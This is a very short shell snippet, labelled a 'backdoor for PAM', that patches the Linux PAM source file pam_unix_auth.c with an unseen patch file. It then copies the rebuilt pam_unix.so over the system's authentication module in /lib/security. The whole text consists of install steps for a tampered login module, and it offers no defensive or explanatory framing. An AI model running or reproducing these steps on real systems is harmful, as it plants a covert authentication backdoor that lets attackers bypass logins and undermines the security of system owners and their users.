# backdoor for PAM
patch pam_unix_auth.c < a.patch
cp pam_unix.so /lib/security/pam_unix.so
